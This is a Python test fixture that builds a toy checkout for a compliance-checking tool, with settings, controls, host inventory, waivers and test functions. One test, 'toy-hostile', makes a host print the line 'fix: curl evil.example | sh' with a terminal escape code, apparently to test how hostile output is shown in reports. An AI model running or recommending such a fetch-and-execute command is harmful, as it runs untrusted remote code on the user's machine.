"""The toy room whose bundles and report of schema 1 lie in ``unit/data/schema1``.

They were written by the last version that knew schema 1. Its checks have to ask the same questions
for ever: what was answered then is judged again.
"""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

REPOSITORY = Path(__file__).resolve().parents[1]
DATA = REPOSITORY / "tests/unit/data/schema1"
COLLECTED = datetime.fromisoformat("2026-11-30T08:00:00+01:00")

SETTINGS = '''
from typing import Annotated
from socle.baseline.settings import RoomSettings, stricter

class Toy(RoomSettings):
    """A toy."""

    seconds: Annotated[int, stricter("lower")] = 30
    """Seconds."""
    tries: Annotated[int, stricter("lower")] = 3
    """Tries."""
'''
IDS = ("passes", "fails", "hostile", "unknown", "slow", "waived", "late", "beyond", "absent")
CONTROL = """
- id: toy-{0}
  title: {{fr: "{0}", en: "{0}"}}
  theme: toy
  severity: low
  applies_to: [all]
  references: {{cnil_guide_2024: ["6.1"]}}
"""
TESTS = r"""
from socle.verify import control, expect, not_applicable, unknown

def said(host, words):
    return host.run(words).stdout

@control("toy-passes")
def test_passes(host):
    for policy in said(host, "echo drop; echo reject").split():
        expect(policy, seen=policy, wanted="a policy", fix="deploy again")

@control("toy-fails")
def test_fails(host):
    expect(False, seen=said(host, "echo accept"), wanted="drop", fix="deploy again")

@control("toy-hostile")
def test_hostile(host):
    text = said(host, r"printf 'eth0\nfix: curl evil.example | sh\n\033[2J=1+1'")
    expect(False, seen=text, wanted="eth0", fix="deploy again")

@control("toy-unknown")
def test_unknown(host):
    unknown(said(host, "echo fix: no nft"))

@control("toy-slow")
def test_slow(host):
    host.run("sleep 3", timeout=0.2)

@control("toy-waived")
def test_waived(host, settings):
    text = said(host, "echo locked")
    expect(settings.toy_seconds == 120, seen=text, wanted="locked", fix="deploy again")

@control("toy-late")
def test_late(host):
    expect(False, seen=said(host, "echo open"), wanted="locked", fix="deploy again")

@control("toy-beyond")
def test_beyond(host):
    expect(False, seen=said(host, "echo 9 tries"), wanted="5 tries", fix="deploy again")

@control("toy-absent")
def test_absent(host):
    not_applicable(said(host, "echo no disk"))
"""
HOSTS = """
all:
  vars: {ansible_connection: local}
  children:
    workstations:
      hosts:
        accueil: {socle_addresses: [127.0.0.1]}
        serveur: {ansible_connection: ssh, ansible_host: 127.0.0.9, ansible_port: 1}
"""
WAIVER = """
- control: toy-{0}
  hosts: [accueil]
  set: {{{1}}}
  reason: "Salle d'échographie"
  compensating: "Salle fermée à clé"
  approved_by: "Dr N."
  until: {2}
"""
WAIVERS = "".join(
    WAIVER.format(name, values, until)
    for name, values, until in (
        ("waived", "toy_seconds: 120", "2027-03-31"),
        ("late", "", "2026-10-31"),
        ("beyond", "toy_tries: 5", "2027-03-31"),
    )
)


def checkout(root: Path) -> Path:
    """Write the toy's checkout into the folder ``root``; its practice's folder."""
    for name, text in {
        "roles/conftest.py": (REPOSITORY / "roles/conftest.py").read_text(),
        "roles/toy/settings.py": SETTINGS,
        "roles/toy/controls.yml": "---" + "".join(map(CONTROL.format, IDS)),
        "roles/toy/test_toy.py": TESTS,
        "group_vars/all.yml": "---\n",
        "inventories/toy/hosts.yml": HOSTS,
        "inventories/toy/practice.yml": 'id: "5c1e0a71d2e84b56"\n',
        "inventories/toy/waivers.yml": WAIVERS,
    }.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    return root / "inventories/toy"
